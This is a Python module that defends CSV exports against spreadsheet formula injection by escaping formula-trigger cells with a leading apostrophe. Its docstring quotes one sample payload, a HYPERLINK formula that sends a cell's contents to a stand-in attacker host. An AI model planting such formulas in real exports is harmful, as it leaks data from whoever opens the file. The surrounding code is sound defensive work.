"""CSV that a spreadsheet opens as text, never as a formula.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil.example/?"&A1)`` in a caller's name, a phonebook
entry or a tag would run when a supervisor opens the export. Such a cell gets
a leading apostrophe, which the spreadsheet shows as nothing and reads as
"this is text" (the OWASP advice for CSV injection). A phone number or a
plain number (``+44 1632 960000``, ``-3``) is left as it is: it cannot be a
formula.
"""

import csv
import re

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9][0-9 .]*\Z")


def cell(value):
    """``value`` as a spreadsheet will take it: text that would be a formula gets a
    leading ``'``; anything else unchanged."""
    if isinstance(value, str) and value.startswith(_TRIGGERS) and not _NUMBER.match(value):
        return "'" + value
    return value


def unquote(text):
    """A cell read back from such a file: its leading ``'`` taken off again when
    :func:`cell` put it there."""
    if text.startswith("'") and text[1:].startswith(_TRIGGERS):
        return text[1:]
    return text


class Writer:
    """:func:`csv.writer` (``\\r\\n`` line ends) whose every cell goes through :func:`cell`."""

    def __init__(self, out):
        self._writer = csv.writer(out, lineterminator="\r\n")

    def writerow(self, row):
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
